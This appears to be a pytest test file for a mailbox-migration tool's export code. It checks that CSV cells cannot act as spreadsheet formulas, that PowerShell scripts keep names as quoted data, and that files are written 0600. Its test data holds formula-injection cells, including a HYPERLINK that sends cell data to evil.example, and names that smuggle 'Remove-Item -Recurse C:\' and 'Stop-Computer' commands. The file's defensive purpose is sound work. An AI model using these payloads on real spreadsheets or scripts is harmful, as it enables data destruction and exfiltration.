"""Exports stay data in the programs that open them (no formula in a CSV cell, no code in a .ps1)
and are for the operator alone (0600 whatever the umask)."""

from __future__ import annotations

import csv
import io
import os
import stat
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from wizard.cli import main
from wizard.exchange.target_mailboxes import (
    ProvisioningRow,
    export_provisioning,
    provisioning_csv,
    provisioning_powershell,
)
from wizard.exports import (
    POWERSHELL_SINGLE_QUOTES,
    csv_text,
    powershell_comment,
    powershell_literal,
    private_file,
    spreadsheet_cell,
    write_private,
)
from wizard.profile import example_profile
from wizard.session import create_session

HOSTILE_CELLS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
]

QUOTES = ["'", "\u2018", "\u2019", "\u201a", "\u201b"]


def read_single_quoted(script: str, start: int) -> tuple[str, int]:
    """PowerShell's reading of a single-quoted string at `start`: its value and where it ends.

    As PowerShell's tokenizer does it: any single-quote character followed by another one is a
    literal quote; any other single-quote character ends the string.
    """
    assert script[start] in POWERSHELL_SINGLE_QUOTES
    value, i = [], start + 1
    while i < len(script):
        c = script[i]
        if c in POWERSHELL_SINGLE_QUOTES:
            if i + 1 < len(script) and script[i + 1] in POWERSHELL_SINGLE_QUOTES:
                value.append(c)
                i += 2
                continue
            return "".join(value), i + 1
        value.append(c)
        i += 1
    raise AssertionError("the string never ends")


@pytest.mark.parametrize("cell", HOSTILE_CELLS)
def test_a_cell_that_begins_like_a_formula_is_text_in_a_spreadsheet(cell: str) -> None:
    text = csv_text(["DisplayName"], [[cell]])
    [header, row] = list(csv.reader(io.StringIO(text)))
    assert header == ["DisplayName"]
    assert row == ["'" + cell]  # OWASP: a leading quote makes the cell text
    assert text.splitlines()[1].startswith('"')  # every cell quoted


def test_ordinary_cells_are_left_as_they_are() -> None:
    for cell in ["anna@acme.example", "Anna O'Brien", "Müller, Jörg", "", "a=b", "x-y"]:
        assert spreadsheet_cell(cell) == cell


def test_the_provisioning_csv_neutralises_every_hostile_cell() -> None:
    rows = [
        ProvisioningRow(f"u{n}@acme.example", cell, "u", cell)
        for n, cell in enumerate(HOSTILE_CELLS)
    ]
    table = list(csv.DictReader(io.StringIO(provisioning_csv(rows))))
    assert [r["DisplayName"] for r in table] == ["'" + c for c in HOSTILE_CELLS]
    assert [r["SourceLogin"] for r in table] == ["'" + c for c in HOSTILE_CELLS]
    assert all(not r[k].startswith(("=", "+", "-", "@", "\t", "\r")) for r in table for k in r)


@pytest.mark.parametrize("quote", QUOTES)
def test_no_quote_powershell_knows_ends_a_value(quote: str) -> None:
    hostile = f"x{quote}; Remove-Item -Recurse C:\\ ; {quote}"
    literal = powershell_literal(hostile)
    value, end = read_single_quoted(literal, 0)
    assert value == hostile
    assert end == len(literal)  # the whole literal is one string: nothing after it runs


def test_a_value_mixing_every_quote_reads_back_whole() -> None:
    hostile = "".join(QUOTES) + "'); Stop-Computer; ('" + "".join(reversed(QUOTES))
    literal = powershell_literal(hostile)
    value, end = read_single_quoted(literal, 0)
    assert (value, end) == (hostile, len(literal))


def test_the_provisioning_script_holds_hostile_names_as_data_only() -> None:
    names = [f"Eve{q}; Remove-Item -Recurse C:\\; {q}" for q in QUOTES]
    rows = [
        ProvisioningRow(f"e{n}@acme.example", name, "eve", "eve") for n, name in enumerate(names)
    ]
    customer = "Evil\r\nRemove-Item -Recurse C:\\ #\u2028Stop-Computer"
    script = provisioning_powershell(rows, customer)
    lines = script.split("\r\n")
    assert lines[0].startswith("# Mailboxes to create for Evil")  # the name stays in the comment
    assert "\n" not in lines[0] and "\u2028" not in lines[0]
    commands = [line for line in lines if line and not line.startswith("#")]
    assert len(commands) == len(names)
    for line in commands:
        # Walk the line as PowerShell would: every value is one string, only our words outside.
        outside, i = [], 0
        while i < len(line):
            if line[i] in POWERSHELL_SINGLE_QUOTES:
                _, i = read_single_quoted(line, i)
                outside.append("<s>")
            else:
                outside.append(line[i])
                i += 1
        words = "".join(outside)
        assert words == (
            "New-Mailbox -Name <s> -DisplayName <s> -Alias <s> -UserPrincipalName <s> "
            "-PrimarySmtpAddress <s> -Password (Read-Host -AsSecureString -Prompt <s>)"
        )
        assert "Remove-Item" in line  # the name itself is kept, as data


def test_a_comment_keeps_no_line_break() -> None:
    assert powershell_comment("a\rb\nc\u2028d\u0085e\x1b[31m") == "a b c d e [31m"


@pytest.fixture
def open_umask() -> Iterator[None]:
    """The most careless umask there is: without 0600 every file would be world-writable."""
    previous = os.umask(0)
    try:
        yield
    finally:
        os.umask(previous)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_reports_bundles_and_lists_are_written_0600_whatever_the_umask(
    open_umask: None, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    store = create_session("Mode Co", "mode.example", example_profile())
    name = store.name
    store.add_mailboxes([("anna", "anna@mode.example", "Anna")])
    csv_path, ps_path = export_provisioning(store, tmp_path / "lists", [])
    store.close()
    assert mode(csv_path) == 0o600 and mode(ps_path) == 0o600

    for fmt in ("md", "html", "json"):
        report = tmp_path / f"report.{fmt}"
        assert main(["report", name, "--format", fmt, "-o", str(report)]) == 0
        assert mode(report) == 0o600 and report.stat().st_size > 0

    bundle = tmp_path / "bundle.zip"
    assert main(["report", name, "--with-log", "-o", str(bundle)]) == 0
    assert mode(bundle) == 0o600
    assert zipfile.ZipFile(bundle).namelist()  # a whole zip, not a half-written one

    older = tmp_path / "older.md"
    older.write_text("old")
    older.chmod(0o666)
    assert main(["report", name, "-o", str(older)]) == 0
    assert mode(older) == 0o600 and older.read_text() != "old"
    assert not list(tmp_path.glob("*.part"))


def test_a_failed_write_leaves_no_file_behind(tmp_path: Path) -> None:
    target = tmp_path / "out" / "report.md"
    with pytest.raises(RuntimeError), private_file(target) as out:
        out.write(b"half")
        raise RuntimeError("disk full")
    assert not list(target.parent.iterdir())
    assert write_private(target, "whole") == target and target.read_text() == "whole"
